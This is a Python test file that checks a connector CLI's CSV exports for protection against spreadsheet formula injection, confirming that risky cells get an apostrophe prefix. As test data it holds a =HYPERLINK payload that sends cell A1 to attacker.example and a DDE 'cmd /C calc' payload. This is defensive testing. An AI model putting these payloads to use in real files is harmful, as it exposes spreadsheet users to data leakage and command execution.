"""Spreadsheet formula injection through the CSV exports.

Tried: an Account named =HYPERLINK(...) in `report attribution --format csv`; partner and account
names starting with =, +, -, @, a tab and a carriage return in `overlaps list --format csv`. Each
such text cell starts with an apostrophe; amounts (negative ones too) stay plain numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from sqlalchemy import create_engine, text
from typer.testing import CliRunner

from connector.cli import app
from connector.emulator import Emulator
from connector.spreadsheet import csv_text, safe_cell
from tests.e2e.test_mirror_cli import _env

runner = CliRunner()
EVIL = '=HYPERLINK("http://attacker.example/?x="&A1,"open")'


@pytest.mark.parametrize("value, written", [
    (EVIL, "'" + EVIL), ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"),
    ("@SUM(1)", "'@SUM(1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("-3000.00", "-3000.00"), ("+5", "+5"), ("-1.5e-3", "-1.5e-3"), (Decimal("-12.50"), Decimal("-12.50")),
    (-7, -7), ("Acme = Good", "Acme = Good"), ("", ""), (None, None),
])
def test_a_cell_that_would_start_a_formula_is_neutralised_and_numbers_are_not(value, written):
    assert safe_cell(value) == written


def test_csv_text_round_trips_a_negative_amount_as_a_number():
    parsed = list(csv.DictReader(io.StringIO(csv_text([{"partner": EVIL, "net": "-3000.00"}], ["partner", "net"]))))
    assert parsed == [{"partner": "'" + EVIL, "net": "-3000.00"}]
    assert Decimal(parsed[0]["net"]) == Decimal("-3000.00")


def _rows(output: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(output)))


def test_overlaps_list_and_attribution_report_csv_neutralise_formulas(tmp_path):
    with Emulator("cosell_demo", records=8, seed=5) as org:
        org.create("Account", {"Name": "@Partner", "Is_Partner__c": True})
        env = {**_env(org, tmp_path), "COLUMNS": "220"}
        org.advance_clock(seconds=1)
        assert runner.invoke(app, ["mirror"], env=env).exit_code == 0
        export = tmp_path / "overlaps.csv"
        export.write_text("Partner,Partner Account Name,Website,Population,Partner Record ID,Country\n"
                          f'@Partner,"{EVIL.replace(chr(34), chr(34) * 2)}",,Customers,c-1,\n'
                          "@Partner,-2+3,,Customers,c-2,\n")
        imported = runner.invoke(app, ["overlaps", "import", str(export)], env=env)
        assert imported.exit_code == 0, imported.output
        listed = runner.invoke(app, ["overlaps", "list", "--format", "csv"], env=env)
        assert listed.exit_code == 0, listed.output
        rows = {r["partner_record_id"] if "partner_record_id" in r else r["id"]: r for r in _rows(listed.output)}
        names = sorted(r["account_name"] for r in rows.values())
        assert names == sorted(["'" + EVIL, "'-2+3"]) and {r["partner_name"] for r in rows.values()} == {"'@Partner"}

        with create_engine(env["COSELL_DATABASE_URL"]).begin() as conn:
            conn.execute(text("UPDATE account SET name = :n WHERE sfid IN "
                              "(SELECT partner_account__c FROM co_sell_participant__c)"), {"n": EVIL})
        report = runner.invoke(app, ["report", "attribution", "--format", "csv"], env=env)
        assert report.exit_code == 0, report.output
        rows = _rows(report.output)
        assert rows and all(r["partner"] in ("'" + EVIL, "(no partner)") for r in rows)
        assert any(r["partner"] == "'" + EVIL for r in rows)
        for r in rows:   # amounts are numbers a spreadsheet can sum
            for column in ("pipeline", "closed_won", "split_pipeline", "split_closed_won"):
                Decimal(r[column])
